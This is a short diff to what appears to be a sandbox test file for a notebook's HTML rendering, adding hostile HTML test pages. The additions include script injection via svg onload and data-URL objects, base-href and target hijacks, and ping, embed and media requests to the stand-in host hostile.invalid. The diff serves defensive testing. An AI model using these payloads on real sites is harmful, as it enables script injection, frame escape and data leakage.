@@ -72,5 +72,13 @@ PAGES = (
     '<form name=documentElement><input name=scrollHeight value="</p>"></form>',
     "<form name=documentElement action=https://hostile.invalid/form><input name=scrollHeight></form>",
     f'"></iframe><script>{_HACK}</script>',
+    "<base href=https://hostile.invalid/ target=_top><p><a href=base>x</a></p>",
+    '<p><a target=_parent href="https://hostile.invalid/parent">x</a></p>',
+    '<p><a href="#here" ping="https://hostile.invalid/ping">x</a></p>',
+    "<object data=https://hostile.invalid/object></object><embed src=https://hostile.invalid/embed>"
+    f"<object data='data:text/html,<script>{_HACK}</script>'></object>",
+    f"<svg onload='{_HACK}'><script>{_HACK}</script><image href=https://hostile.invalid/svg />"
+    "<use href='https://hostile.invalid/use#x'/></svg>",
+    "<video src=https://hostile.invalid/video poster=https://hostile.invalid/poster></video>",
 )
 """Pages that try to run something in the notebook around their frame, to leave it, or to fetch something."""
